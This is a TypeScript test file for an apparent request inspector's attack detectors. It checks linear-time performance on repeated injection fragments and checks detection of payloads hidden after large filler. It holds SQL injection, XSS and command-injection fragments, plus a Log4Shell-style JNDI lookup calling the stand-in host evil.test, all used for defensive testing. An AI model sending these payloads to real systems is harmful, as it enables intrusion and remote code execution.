import t from 'tap'
import { detectors } from '../../src/stages/inspect/detectors/all.js'
import { Inspector } from '../../src/stages/inspect/inspector.js'

const inspector = new Inspector(detectors, false)
const never = (): boolean => false

/** Repetitions that aim at every lexer, anchor and decoding. */
const units = [
  "'",
  "a' ",
  "' or ",
  'or 1 ',
  "or 'a",
  'select ',
  'select a from b ',
  'union (',
  '(',
  'concat(',
  '/*',
  '/**/',
  '-- ',
  '#',
  '<',
  '<a ',
  '<a b=',
  '<a b="',
  "<a b='<",
  ' onclick',
  ' onclick=',
  'javascript:',
  'alert ',
  'alert (',
  '[][',
  ';',
  '; find ',
  ';id',
  '| ',
  '`a',
  '$(a ',
  '$a (',
  '/bin/',
  'a\n',
  '\nx: y',
  '\nto: a@b',
  '\r\n',
  '{{',
  '{{a}}',
  '{%',
  '${',
  '${a}',
  '${a:-',
  '${::-',
  '..',
  '../',
  '..\\',
  './a/',
  ' etc/hosts',
  'http://1',
  'http://localhost/',
  '://',
  '@',
  '%',
  '%25',
  '%u0041',
  '%c0%af',
  '&',
  '&#0',
  '&amp;',
  '\\',
  '\\u0041',
  '\\u{0',
  '\uff41',
  '\u200b',
  '\0',
  'QUJD',
  'H4sI',
  'exec (',
  'exec(',
  'java.lang.',
  'o:1',
  ')(',
  '*)',
  'child::',
  '//*',
  '<!entity',
  '<!--#',
  '__class__',
  '__proto__',
  '[',
  '{"a":',
  '"',
  "+'",
  'get-process',
  'if not ',
  'whoami',
  'a',
  ' ',
  'é',
]

/** The best of a few runs, in ms of processor time: other work on the machine does not count. */
function cost(text: string, runs: number): number {
  let best = Number.POSITIVE_INFINITY
  for (let i = 0; i < runs; i++) {
    const start = process.cpuUsage()
    inspector.inspect(text, 'body', 'note', never)
    const { user, system } = process.cpuUsage(start)
    best = Math.min(best, (user + system) / 1000)
  }
  return best
}

t.test('sixteen times the text costs about sixteen times as much, whatever is repeated', async (t) => {
  const small = 16 * 1024
  for (const unit of units) {
    const short = unit.repeat(Math.ceil(small / unit.length)).slice(0, small)
    const long = unit.repeat(Math.ceil((small * 16) / unit.length)).slice(0, small * 16)
    // Quadratic work would cost 256 times as much; the floor keeps the clock's grain out of the ratio.
    const ratio = cost(long, 3) / Math.max(cost(short, 6), 0.3)
    t.ok(ratio < 80, `${JSON.stringify(unit)}: 16 times the text, ${ratio.toFixed(1)} times the cost`)
  }
})

t.test('any text of any length is judged without a throw', async (t) => {
  let seed = 7
  const random = (below: number): number => {
    seed = (Math.imul(seed, 1_103_515_245) + 12_345) & 0x7fffffff
    return seed % below
  }
  let judged = 0
  for (let i = 0; i < 20_000; i++) {
    let text = ''
    for (let n = random(6); n >= 0; n--) {
      const unit = units[random(units.length)] ?? ''
      text += random(4) === 0 ? String.fromCharCode(random(0x10000)) : unit.slice(0, 1 + random(unit.length))
    }
    inspector.inspect(text, 'body', 'note', never)
    judged++
  }
  t.equal(judged, 20_000)
})

t.test('an attack at the very end of a large value is found', async (t) => {
  const filler = 'lorem ipsum '.repeat(100_000)
  t.equal(inspector.inspect(`${filler}' UNION SELECT 1,2--`, 'body', 'note', never)?.detector, 'sqli')
  t.equal(inspector.inspect(`${filler}<img src=x onerror=alert(1)>`, 'body', 'note', never)?.detector, 'xss')
  t.equal(inspector.inspect(`${filler}\${jndi:ldap://evil.test}`, 'body', 'note', never)?.detector, 'jndi')
  t.equal(inspector.inspect(filler, 'body', 'note', never), null)
})
